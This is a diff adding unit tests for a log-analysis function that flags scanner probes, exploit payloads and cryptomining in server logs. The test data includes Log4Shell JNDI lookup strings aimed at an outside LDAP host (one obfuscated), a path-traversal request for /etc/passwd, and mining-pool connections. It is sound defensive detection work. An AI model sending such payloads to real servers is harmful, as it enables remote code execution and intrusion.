@@ -38,6 +38,29 @@ describe("security signals in a workload's logs", () => {
     ).not.toContain("ghp_abcdefghijklmnopqrstuvwxyz0123456789");
   });
 
+  it("reads scanner probes the server turned away, every one, as refused; one that was answered keeps the scan a signal", () => {
+    // Given background probes a public endpoint refuses (Kestrel's bad request, nginx's 404)
+    const refused = [
+      line(`Microsoft.AspNetCore.Server.Kestrel: Connection id "0HN8K2QO7R1VF" bad request data: "Invalid request line: 'GET /.env HTTP/1.1'"`, 0),
+      line(`GET /wp-admin/setup.php 404 src=203.0.113.9`, 1),
+    ];
+    expect(securitySignals(refused)).toEqual([expect.objectContaining({ kind: "scanning", count: 2, refused: true })]);
+    // When one probe got an answer (a 200 on /.env), the scan is not background any more
+    expect(securitySignals([...refused, line(`GET /.env 200 312 src=203.0.113.9`, 2)])).toEqual([expect.objectContaining({ kind: "scanning", count: 3, refused: false })]);
+    // And a probe line that says nothing of its answer is not counted as refused
+    expect(securitySignals([line(`GET /../../etc/passwd src=203.0.113.9 ua="nikto/2.5"`)])).toEqual([expect.objectContaining({ refused: false })]);
+  });
+
+  it("reads exploit payloads and a workload taken over as intrusion, even when the request was refused", () => {
+    const kinds = (messages: string[]) => securitySignals(messages.map((m, i) => line(m, i))).map((s) => s.kind);
+    expect(kinds(["SearchController - rejected search query '${jndi:ldap://198.51.100.77:1389/Basic/Command/Base64/KGN1cmw}'"])).toEqual(["intrusion"]);
+    expect(kinds(["User-Agent: ${${lower:j}ndi:${lower:l}dap://198.51.100.77:1389/a} rejected by request filter"])).toEqual(["intrusion"]);
+    expect(kinds(["TCP_DENIED/403 3912 CONNECT pool.supportxmr.com:443 (acl blocked_categories=cryptomining)"])).toEqual(["intrusion"]);
+    expect(securitySignals([line("CONNECT stratum+tcp://xmr.example:3333 by pid 4411 (xmrig)")])).toEqual([expect.objectContaining({ kind: "intrusion", refused: false })]);
+    // And ordinary words near them are not
+    expect(kinds(["jndi datasource java:comp/env/jdbc/orders bound", "mining the audit log for slow queries"])).toEqual([]);
+  });
+
   it("ignores ordinary errors", () => {
     expect(securitySignals([line("upstream connect error: connection refused"), line("readiness probe failed: HTTP 503")])).toEqual([]);
   });
